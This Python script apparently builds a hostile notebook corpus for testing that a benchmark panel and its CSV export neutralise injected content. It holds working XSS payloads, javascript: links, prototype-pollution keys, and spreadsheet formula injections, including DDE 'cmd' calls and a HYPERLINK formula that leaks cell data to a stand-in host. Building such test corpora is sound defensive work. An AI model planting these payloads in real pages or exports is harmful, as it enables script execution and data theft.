"""Generate the hostile notebook corpus for the timing-report tests.

Every notebook has ``metadata.device_bench`` with a mix of valid run records and
hostile or invalid ones. Every payload that would run JavaScript sets
``window.__deviceBenchPwned = 1`` (the sentinel) or calls ``alert()``.

Usage::

    python make_corpus.py              # (re)write the small notebooks next to this file
    python make_corpus.py --out DIR    # write the small notebooks into DIR
    python make_corpus.py --huge DIR   # write 10-huge-strings.ipynb (about 20 MB) into DIR
    python make_corpus.py --check      # exit 1 when a committed notebook differs

The 10 MB notebook is never committed: tests generate it into a temporary folder
with ``--huge``. Standard library only; output is deterministic.
"""

from __future__ import annotations

import argparse
import copy
import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
SENTINEL = "window.__deviceBenchPwned=1"
HUGE_NAME = "10-huge-strings.ipynb"
ID_PREFIX = "00000000-0000-4000-8000-"
TEN_MB = 10 * 1024 * 1024

# Payloads that run JavaScript wherever a notebook string reaches HTML, SVG,
# Markdown (marked, markdown-it, MathJax) or an attribute unescaped.
XSS = {
    "script": f"<script>{SENTINEL}</script>",
    "img": f'<img src=x onerror="{SENTINEL}">',
    "svg": f"<svg onload={SENTINEL}>",
    "attr_break": f'"><script>{SENTINEL}</script>',
    "attr_break_single": "'><img src=x onerror=alert(1)>",
    "title_break": f"</title><script>{SENTINEL}</script>",
    "style_break": f"</style><script>{SENTINEL}</script>",
    "textarea_break": f"</textarea><img src=x onerror={SENTINEL}>",
    "cdata_break": f"]]><script>{SENTINEL}</script>",
    "comment": f"--><script>{SENTINEL}</script><!--",
    "iframe": '<iframe srcdoc="<script>parent.__deviceBenchPwned=1</script>"></iframe>',
    "details": f"<details open ontoggle={SENTINEL}>x</details>",
    "object": f'<object data="javascript:{SENTINEL}"></object>',
    "mxss": f"<math><mtext><table><mglyph><style><img src=x onerror={SENTINEL}>",
    "pre_escaped": f"&lt;script&gt;{SENTINEL}&lt;/script&gt;",
    "css_url": f'<style>*{{background:url("javascript:{SENTINEL}")}}</style>',
    "svg_use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={SENTINEL}>#x"/></svg>',
}

LINKS = {
    "html_link": f'<a href="javascript:{SENTINEL}">click me</a>',
    "md_link": f"[click me](javascript:{SENTINEL})",
    "md_image": f"![x](javascript:{SENTINEL})",
    "md_ref_link": f"[click me][1]\n\n[1]: javascript:{SENTINEL}",
    "md_autolink": f"<javascript:{SENTINEL}>",
    "bare_scheme": f"javascript:{SENTINEL}",
    "data_url": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "mathjax": f"$\\href{{javascript:{SENTINEL}}}{{click}}$",
    "attrs_ext": f"text{{onclick={SENTINEL}}}",
    "www": "www.example.invalid/phish",
    "https": "https://example.invalid/phish",
    "email": "victim@example.invalid",
}

# Spreadsheet formula injection (CSV export).
FORMULAS = {
    "hyperlink": '=HYPERLINK("https://example.invalid/?leak="&A1,"Click for details")',
    "plus_cmd": "+cmd|' /C calc'!A0",
    "minus_expr": "-2+3",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "cr_formula": "\r=1+1",
    "lf_formula": "\n=1+1",
    "space_formula": "  =1+1",
    "fullwidth": "\uff1d1+1",
    "dde": "=cmd|' /C calc'!A0",
    "negative_string": "-5",
    "quote_comma": 'a "quoted", value\r\nwith a line break',
}


def run(n: int, **fields):
    """A valid run record (seed profile, full MNIST) with some fields replaced."""
    device = fields.get("device", "cpu")
    record = {
        "id": f"{ID_PREFIX}{n:012d}",
        "status": "ok",
        "source": "jupyterlab",
        "machine_label": "Clean machine",
        "device": device,
        "device_name": "Clean CPU",
        "profile": "seed",
        "params": {"device": device, "profile": "seed"},
        "settings": {
            "profile": "seed",
            "pipeline": "dataloader",
            "epochs": 10,
            "batch_size": 64,
            "dataset": "mnist",
            "repeat_to": None,
        },
        "data": {
            "source": "mnist-train+test",
            "loader": "torchvision",
            "train_samples": 60000,
            "test_samples": 10000,
            "repeated": False,
            "repeat_to": None,
        },
        "train_seconds": 100.0,
        "epoch_seconds": [10.0] * 10,
        "steady_epoch_seconds": 10.0,
        "samples_per_second": 6000.0,
        "accuracy": 0.97,
        "versions": {"python": "3.11.9", "torch": "2.4.1", "cuda": None, "cudnn": None},
        "cpu": {"model": "Clean CPU", "threads": 8, "logical_cores": 16},
        "started_at": f"2024-05-01T10:{n % 60:02d}:00Z",
        "finished_at": f"2024-05-01T11:{n % 60:02d}:00Z",
        "error": None,
    }
    record.update(fields)
    return record


def failed(n: int, **fields):
    record = run(n, **fields)
    record.update(
        {
            "status": fields.get("status", "failed"),
            "settings": None,
            "data": None,
            "train_seconds": None,
            "epoch_seconds": None,
            "steady_epoch_seconds": None,
            "samples_per_second": None,
            "accuracy": None,
        }
    )
    record.update(fields)
    return record


def notebook(title: str, what: str, device_bench):
    return {
        "cells": [
            {
                "cell_type": "markdown",
                "id": "about",
                "metadata": {},
                "source": [
                    f"# Hostile corpus: {title}\n",
                    "\n",
                    f"{what}\n",
                    "\n",
                    "Opening this notebook, its device panel or any report made from it\n",
                    "must not run a script: `window.__deviceBenchPwned` stays undefined\n",
                    "and no dialog opens.\n",
                ],
            }
        ],
        "metadata": {
            "device_bench": device_bench,
            "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
            "language_info": {"name": "python"},
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def script_injection():
    runs = [run(1), run(2, device="cpu", train_seconds=101.0)]
    n = 10
    for name, payload in XSS.items():
        n += 1
        runs.append(
            run(
                n,
                machine_label=payload,
                device="cuda:0",
                device_name=payload,
                profile=payload,
                params={"device": "cuda:0", "profile": payload, name: payload},
                train_seconds=40.0 + n,
            )
        )
        n += 1
        runs.append(
            failed(n, machine_label=payload, device="cuda:0", profile="seed", error=payload)
        )
    # Payloads in an invalid record (shown as a preview) and in unknown fields.
    runs.append({"id": "bad", "status": XSS["script"], "device": XSS["img"]})
    runs.append(run(99, notes=XSS["script"], **{XSS["img"]: XSS["svg"]}))
    return notebook(
        "script and HTML injection",
        "`<script>`, `<img onerror>`, `<svg onload>`, attribute and element break-outs in "
        "machine_label, device_name, profile, error and params.",
        {"schema_version": 1, "device": "cpu", "runs": runs},
    )


def links():
    runs = [run(1)]
    n = 10
    for name, payload in LINKS.items():
        n += 1
        runs.append(
            run(
                n,
                machine_label=f"links {name}",
                device="mps",
                device_name=payload,
                profile=payload,
                params={"device": "mps", "url": payload},
                train_seconds=50.0 + n,
            )
        )
        n += 1
        runs.append(failed(n, machine_label=payload, device="mps", error=payload))
    return notebook(
        "links",
        "`javascript:` links as HTML, Markdown links, images, reference links and autolinks; "
        "MathJax `\\href`; bare `www.`/`https://` URLs and e-mail addresses.",
        {"schema_version": 1, "device": "mps", "runs": runs},
    )


def formula_injection():
    runs = [run(1)]
    n = 10
    for name, payload in FORMULAS.items():
        n += 1
        runs.append(
            run(
                n,
                id=f"{payload[:90]}#{n}",
                machine_label=payload,
                device="cuda:0",
                device_name=payload,
                profile=payload,
                params={"device": "cuda:0", name: payload, "negative_number": -2},
                train_seconds=30.0 + n,
            )
        )
        n += 1
        runs.append(failed(n, machine_label=payload, device="cuda:0", error=payload))
    return notebook(
        "CSV formula injection",
        "Cells starting with `=`, `+`, `-`, `@`, tab, CR or LF (`=HYPERLINK(...)`, `+cmd`, "
        "`-2+3`, `@SUM`) in every string field; the CSV export must neutralise them.",
        {"schema_version": 1, "device": "cuda:0", "runs": runs},
    )


def wrong_types():
    runs = [
        run(1),
        run(2, device="cuda:0", device_name="Valid GPU", train_seconds=50.0),
        run(3, train_seconds="45.0"),
        run(4, accuracy=1.5),
        run(5, train_seconds=-1),
        run(6, status="done"),
        XSS["script"],
        42,
        None,
        [run(7)],
        {k: v for k, v in run(8).items() if k != "id"},
        run(9, device=f"gpu0{XSS['img']}"),
        run(10, id="x" * 101),
        run(11, epoch_seconds=["1", "2"]),
        run(12, settings="epochs=10"),
        run(13, machine_label=["Clean machine"]),
        run(14, params="device=cpu"),
        run(15, error="e" * 2001),
        run(16, source="notebook"),
    ]
    return notebook(
        "wrong types",
        "train_seconds as a string, accuracy above 1, negative seconds, unknown status, runs "
        "that are not objects (a string, a number, null, an array), a missing id, an invalid "
        "device, over-long id and error, wrong types for epoch_seconds/settings/params.",
        {"schema_version": 1, "runs": runs},
    )


def runs_not_array():
    return notebook(
        "runs is not an array",
        "`runs` is an object keyed by index: nothing can be read, and the panel must say so.",
        {"schema_version": 1, "device": "cpu", "runs": {"0": run(1)}},
    )


def device_bench_not_object():
    return notebook(
        "device_bench is not an object",
        "`metadata.device_bench` is a string holding a payload.",
        XSS["img"],
    )


def future_schema():
    v99 = {
        "id": "00000000-0000-4000-8000-000000000099",
        "status": "ok",
        "timings": {"train": 12.0},
        "machine": {"label": "Future machine"},
    }
    return notebook(
        "future schema version",
        "`schema_version: 99`, an unknown top-level device and a run in a shape this version "
        "does not know; the two runs that still match version 1 are shown.",
        {
            "schema_version": 99,
            "device": "tpu:0",
            "runs": [
                run(1),
                run(2, device="cuda:0", device_name="Future GPU", train_seconds=20.0),
                v99,
            ],
            "future_field": {"anything": XSS["script"]},
        },
    )


def prototype_keys():
    runs = [
        run(1, id="__proto__", machine_label="__proto__", profile="constructor"),
        run(
            2,
            id="constructor",
            machine_label="__proto__",
            profile="constructor",
            device="cuda:0",
            device_name="toString",
            train_seconds=50.0,
        ),
        run(3, id="toString", machine_label="hasOwnProperty", profile="valueOf"),
    ]
    runs[0]["params"] = {
        "__proto__": {"polluted": 1},
        "constructor": {"prototype": {"polluted": 1}},
    }
    return notebook(
        "prototype keys",
        "Run ids, machine labels and profiles named `__proto__`, `constructor`, `toString`; "
        "params with `__proto__` keys. Nothing may be polluted and grouping must work.",
        {"schema_version": 1, "runs": runs},
    )


def unicode_tricks():
    runs = [
        run(
            1,
            machine_label="bidi \u202egnp.exe\u202c end",
            device_name="zero\u200bwidth \u2066iso\u2069",
        ),
        run(
            2,
            machine_label="line one\nline two\r\nline three",
            device="cuda:0",
            device_name="nul\u0000 bell\u0007 del\u007f c1\u0085",
            profile="replacement \ufffd and private use \ue000 chars",
            train_seconds=40.0,
        ),
        run(
            3,
            machine_label="M" * 200,
            device_name="D" * 300,
            profile="\U0001f680 emoji \U0001f468\u200d\U0001f469\u200d\U0001f467",
        ),
        run(4, machine_label="bom\ufeff and \ufffe\uffff non-characters"),
    ]
    return notebook(
        "Unicode tricks",
        "Bidirectional overrides, zero-width characters, NUL and other controls, line breaks in "
        "labels, replacement and private-use characters, a 200-character label and a "
        "300-character device name, emoji.",
        {"schema_version": 1, "runs": runs},
    )


def huge_strings():
    head = f"<script>{SENTINEL}</script><img src=x onerror={SENTINEL}>"
    big = head + "A" * (TEN_MB - len(head))
    runs = [
        run(1),
        run(2, device="cuda:0", device_name=big, train_seconds=50.0),
        failed(3, error=big),
    ]
    return notebook(
        "10 MB strings",
        "A 10 MB device_name (valid: no maxLength; shown truncated) and a 10 MB error (invalid: "
        "over maxLength 2000; listed with a truncated preview). Both start with payloads.",
        {"schema_version": 1, "runs": runs},
    )


SMALL = {
    "01-script-injection.ipynb": script_injection,
    "02-links.ipynb": links,
    "03-formula-injection.ipynb": formula_injection,
    "04-wrong-types.ipynb": wrong_types,
    "05-runs-not-array.ipynb": runs_not_array,
    "06-device-bench-not-object.ipynb": device_bench_not_object,
    "07-future-schema.ipynb": future_schema,
    "08-prototype-keys.ipynb": prototype_keys,
    "09-unicode.ipynb": unicode_tricks,
}


def unique_ids(nb, number: int):
    """Give the generated ids of each notebook their own block, so that the
    corpus can be merged into one report without collapsing runs."""
    runs = nb["metadata"]["device_bench"]
    runs = runs.get("runs") if isinstance(runs, dict) else None
    for record in runs if isinstance(runs, list) else []:
        if isinstance(record, dict) and str(record.get("id", "")).startswith(ID_PREFIX):
            record["id"] = record["id"].replace(ID_PREFIX, f"00000000-0000-4000-8{number:03d}-", 1)
    return nb


def build(name: str):
    return unique_ids(SMALL[name](), int(name[:2]))


def dumps(nb) -> str:
    # ensure_ascii keeps lone surrogates and controls as \u escapes (valid JSON).
    return json.dumps(copy.deepcopy(nb), indent=1, sort_keys=True, ensure_ascii=True) + "\n"


def write(folder: Path, name: str, nb) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(dumps(nb), encoding="utf-8", newline="\n")
    return path


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    group = parser.add_mutually_exclusive_group()
    group.add_argument("--out", type=Path, help="write the small notebooks into this folder")
    group.add_argument("--huge", type=Path, help=f"write {HUGE_NAME} into this folder")
    group.add_argument("--check", action="store_true", help="compare the committed notebooks")
    args = parser.parse_args(argv)

    if args.huge:
        print(write(args.huge, HUGE_NAME, unique_ids(huge_strings(), 10)))
        return 0
    if args.check:
        stale = [
            name
            for name in SMALL
            if not (HERE / name).is_file()
            or (HERE / name).read_text(encoding="utf-8") != dumps(build(name))
        ]
        for name in stale:
            print(f"out of date: {name} (run python {Path(__file__).name})", file=sys.stderr)
        return 1 if stale else 0
    folder = args.out or HERE
    for name in SMALL:
        print(write(folder, name, build(name)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
